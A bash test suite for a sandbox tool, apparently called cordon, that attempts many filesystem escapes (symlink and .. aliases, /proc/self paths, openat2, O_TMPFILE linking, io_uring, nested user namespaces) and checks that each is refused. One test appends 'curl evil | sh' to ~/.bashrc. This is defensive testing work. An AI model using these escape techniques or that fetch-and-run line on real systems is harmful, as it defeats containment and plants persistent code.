#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
#
# Guarantee 1: nothing outside the writable roots can be written: not directly, not through a
# symlink or `..` alias in the workspace, /proc/self/*, openat2, O_TMPFILE + linkat, hard links,
# io_uring or a nested user namespace; the host's /tmp, /dev/shm, /var/tmp and home dotfiles stay
# untouched, and the command's /tmp and TMPDIR are private.
# shellcheck source=../lib.sh
. "$(dirname "$0")/../lib.sh"

mk_scratch
V=$OUTD/victim

# Before every attack: the outside tree and the workspace as they were at the start.
before_attack() {
	reset_outside
	rm -rf "${WS:?}"/* && mkdir -p "$WS/wsdir" "$WS/sub"
	printf 'mine\n' >"$WS/wsfile"
	ln -s "$OUTD/victim" "$WS/lnk"
	ln -s "$OUTD" "$WS/dlnk"
	ln -s ../out "$WS/rel-dlnk"
	own "$WS"
}
before_attack

# --- the ground the other tests stand on -------------------------------------------------------
sbp whoami
if probe_succeeded && [[ $OUT == *" euid=$TEST_UID "* ]]; then
	ok "the probe runs in the sandbox as the caller (uid $TEST_UID)"
else
	not_ok "the probe runs in the sandbox as the caller (uid $TEST_UID)" "$(what_happened)"
fi

sbp write "$WS/hello" "hello-$NONCE"
if probe_succeeded && [[ $(cat "$WS/hello" 2>/dev/null) == "hello-$NONCE" && $(stat -c %u "$WS/hello") == "$TEST_UID" ]]; then
	ok "a write in the workspace lands on the host, owned by the caller"
else
	not_ok "a write in the workspace lands on the host, owned by the caller" "$(what_happened)" \
		"host: $(ls -ln "$WS/hello" 2>&1)"
fi

require_visible "$V"

run as_user "$P" write "$OUTD/control" x
if probe_succeeded && [[ -f $OUTD/control ]]; then
	ok "control: outside the sandbox the test user may write $OUTD"
else
	not_ok "control: outside the sandbox the test user may write $OUTD" "$(what_happened)"
fi
rm -f "$OUTD/control"

# --- direct writes outside ---------------------------------------------------------------------
attack_p "write an existing file outside" "$OUTD" write "$V" pwned
attack_p "create a file outside" "$OUTD" create "$OUTD/new"
attack_p "append to a file outside" "$OUTD" append "$V" pwned
attack_p "truncate a file outside" "$OUTD" truncate "$V" 0
attack_p "mkdir outside" "$OUTD" mkdir "$OUTD/newdir"
attack_p "rmdir outside" "$OUTD" rmdir "$OUTD/empty"
attack_p "unlink outside" "$OUTD" unlink "$V"
attack_p "rename within outside" "$OUTD" rename "$V" "$OUTD/renamed"
attack_p "rename a file outside into the workspace" "$OUTD" rename "$V" "$WS/stolen"
attack_p "rename a workspace file to outside" "$OUTD" rename "$WS/wsfile" "$OUTD/planted"
attack_p "rename a workspace dir over an empty dir outside" "$OUTD" rename "$WS/wsdir" "$OUTD/empty"
attack_p "exchange a workspace file with a file outside" "$OUTD" exchange "$WS/wsfile" "$V"
attack_p "chmod outside" "$OUTD" chmod "$V" 777
attack_p "chown outside (to its own owner: still a change of ctime)" "$OUTD" chown "$V" "$TEST_UID" "$TEST_GID"
attack_p "utimes outside" "$OUTD" utimes "$V"
attack_p "setxattr outside" "$OUTD" setxattr "$V" user.cordon "pwned-$NONCE"
run "$P" getxattr "$V" user.cordon
if [[ $OUT != *"pwned-$NONCE"* ]]; then ok "host: no xattr on $V"; else not_ok "host: no xattr on $V" "$OUT"; fi
attack_p "mkfifo outside" "$OUTD" mkfifo "$OUTD/fifo"
attack_p "mknod a char device outside" "$OUTD" mknod "$OUTD/null" 1 3
attack_p "symlink outside" "$OUTD" symlink /etc/passwd "$OUTD/sl"
attack_p "hard link outside to a file outside" "$OUTD" link "$V" "$OUTD/hl"
attack_p "hard link outside to a workspace file" "$OUTD" link "$WS/wsfile" "$OUTD/hl"
attack_p "bind a unix socket file outside" "$OUTD" bind-unix "$OUTD/sock"
attack_p "O_TMPFILE in a dir outside" "$OUTD" tmpfile "$OUTD"
attack_p "O_TMPFILE in the workspace, linkat to outside" "$OUTD" tmpfile "$WS" "$OUTD/tmpl"

# --- aliases ------------------------------------------------------------------------------------
attack_p "write through a symlink in the workspace" "$OUTD" write "$WS/lnk" pwned
attack_p "create through a dir symlink in the workspace" "$OUTD" create "$WS/dlnk/new"
attack_p "create through a relative dir symlink" "$OUTD" create "$WS/rel-dlnk/new"
attack_sh "symlink made inside, then write through it" "$OUTD" \
	"'$P' symlink '$OUTD' '$WS/made-lnk' || exit 3; exec '$P' create '$WS/made-lnk/new'"
attack_sh "hard link made inside to a file outside, then write it" "$OUTD" \
	"'$P' link '$V' '$WS/hl' || exit 1; exec '$P' write '$WS/hl' pwned"
attack_p "write through a .. alias" "$OUTD" write "$WS/sub/../../out/victim" pwned
attack_p "write through /proc/self/root" "$OUTD" proc-root-write "$V" pwned
attack_p "write through /proc/self/cwd/.." "$OUTD" proc-cwd-write ../out/victim pwned
attack_p "write through /proc/1/root" "$OUTD" write "/proc/1/root$V" pwned
attack_p "reopen a read-only fd for writing via /proc/self/fd" "$OUTD" reopen-write "$V" pwned
attack_p "openat2 outside (no RESOLVE flags)" "$OUTD" openat2 "$OUTD" victim none pwned
attack_p "openat2 ../out from the workspace" "$OUTD" openat2 "$WS" ../out/victim none pwned
attack_p "openat2 through a workspace symlink" "$OUTD" openat2 "$WS" lnk none pwned
attack_p "openat2 with RESOLVE_IN_ROOT from /" "$OUTD" openat2 / "${V#/}" in-root pwned
attack_p "io_uring_setup" "$OUTD" uring-setup
attack_p "io_uring IORING_OP_OPENAT outside" "$OUTD" uring-openat "$V" pwned
attack_p "io_uring IORING_OP_MKDIRAT outside" "$OUTD" uring-mkdir "$OUTD/udir"
attack_p "new user+mount namespace, unmount/remount, write" "$OUTD" userns-write "$V" pwned

# --- host temp dirs and dotfiles ----------------------------------------------------------------
HOSTMARK=/tmp/cordon-host-$NONCE
echo host >"$HOSTMARK"
track_path "$HOSTMARK"
sbp read "$HOSTMARK"
if probe_refused && [[ -f $HOSTMARK ]]; then
	ok "the host's /tmp is not the sandbox's /tmp (a host file there is not visible)"
else
	not_ok "the host's /tmp is not the sandbox's /tmp (a host file there is not visible)" "$(what_happened)"
fi

for d in /tmp /dev/shm /var/tmp; do
	f=$d/cordon-escape-$NONCE
	track_path "$f"
	sbp write "$f" pwned
	if [[ ! -e $f && $(last_line "$OUT") =~ ^(ok|fail) ]]; then
		ok "a write to $d in the sandbox leaves nothing in the host's $d ($(last_line "$OUT"))"
	else
		not_ok "a write to $d in the sandbox leaves nothing in the host's $d" "$(what_happened)"
	fi
done

track_path "/tmp/private-$NONCE" # only there if the sandbox's /tmp is the host's
sbp write "/tmp/private-$NONCE" x
if probe_succeeded; then ok "the sandbox's /tmp is writable"; else not_ok "the sandbox's /tmp is writable" "$(what_happened)"; fi

run sb -w "$WS" -- /bin/sh -c "test -n \"\$TMPDIR\" || exit 9; '$P' write \"\$TMPDIR/cordon-tmpdir-$NONCE\" x && echo \"TMPDIR=\$TMPDIR\""
tmpdir=$(sed -n 's/^TMPDIR=//p' <<<"$OUT")
if [[ $RC == 0 && -n $tmpdir && ! -e $tmpdir/cordon-tmpdir-$NONCE && ! -e /tmp/cordon-tmpdir-$NONCE ]]; then
	ok "TMPDIR ($tmpdir) is writable in the sandbox and private (nothing on the host)"
else
	not_ok "TMPDIR is writable in the sandbox and private (nothing on the host)" "$(what_happened)"
fi

attack_p "append to ~/.bashrc" "$HOMEDIR" append "$HOMEDIR/.bashrc" "curl evil | sh"
attack_p "create a new dotfile in ~" "$HOMEDIR" create "$HOMEDIR/.cordon-$NONCE"
attack_p "rename over ~/.profile" "$HOMEDIR" rename "$WS/wsfile" "$HOMEDIR/.profile"

# --- modes and extra roots ----------------------------------------------------------------------
SB_OPTS=(--mode read-only)
attack_p "read-only mode: the workspace is not writable" "$WS" write "$WS/wsfile" pwned
attack_p "read-only mode: no new file in the workspace" "$WS" create "$WS/ro-new"
track_path "/tmp/ro-$NONCE"
run sb -w "$WS" --mode read-only -- /bin/sh -c "'$P' write \"\${TMPDIR:-/tmp}/ro-$NONCE\" x"
if probe_succeeded; then ok "read-only mode: the private temp dir is writable"; else not_ok "read-only mode: the private temp dir is writable" "$(what_happened)"; fi
SB_OPTS=()

mkdir -p "$T/extra" "$T/extra-sibling"
own "$T/extra" "$T/extra-sibling"
run sb -w "$WS" --writable "$T/extra" -- "$P" write "$T/extra/f" "extra-$NONCE"
if probe_succeeded && [[ $(cat "$T/extra/f" 2>/dev/null) == "extra-$NONCE" ]]; then
	ok "--writable: an extra root is writable and the write lands on the host"
else
	not_ok "--writable: an extra root is writable and the write lands on the host" "$(what_happened)"
fi
attack "--writable: its sibling is still not writable" "$T/extra-sibling" -- \
	-w "$WS" --writable "$T/extra" -- "$P" create "$T/extra-sibling/f"

BIG=$(printf 'x%.0s' $(seq 1 8192))
run sb -w "$WS" --file-size 1000 -- "$P" write "$WS/big" "$BIG"
size=$(stat -c %s "$WS/big" 2>/dev/null || echo 0)
# The kernel answers with SIGXFSZ (exit 128+25) or EFBIG when the signal is ignored.
if { probe_refused || [[ $RC == 153 ]]; } && ((size <= 1000)); then
	ok "--file-size 1000: a larger write fails and the host file holds at most 1000 bytes ($size, exit $RC)"
else
	not_ok "--file-size 1000: a larger write fails and the host file holds at most 1000 bytes" "host size: $size" "$(what_happened)"
fi

run sb -w "$WS" --mode full-access -- "$P" write "$OUTD/full-$NONCE" x
if probe_succeeded && [[ -f $OUTD/full-$NONCE ]]; then
	ok "control: full-access mode does write outside (the refusals above are the policy's)"
else
	not_ok "control: full-access mode does write outside (the refusals above are the policy's)" "$(what_happened)"
fi
rm -f "$OUTD/full-$NONCE"

# A workspace under the host's /tmp must still be the real directory, not the private /tmp.
TWS=$(mktemp -d /tmp/cordon-ws.XXXXXX)
track_path "$TWS"
chmod 0755 "$TWS"
own "$TWS"
run sb -w "$TWS" -- "$P" write "$TWS/f" "tmpws-$NONCE"
if probe_succeeded && [[ $(cat "$TWS/f" 2>/dev/null) == "tmpws-$NONCE" ]]; then
	ok "a workspace under the host's /tmp is writable and the write lands on the host"
else
	not_ok "a workspace under the host's /tmp is writable and the write lands on the host" "$(what_happened)"
fi

done_testing
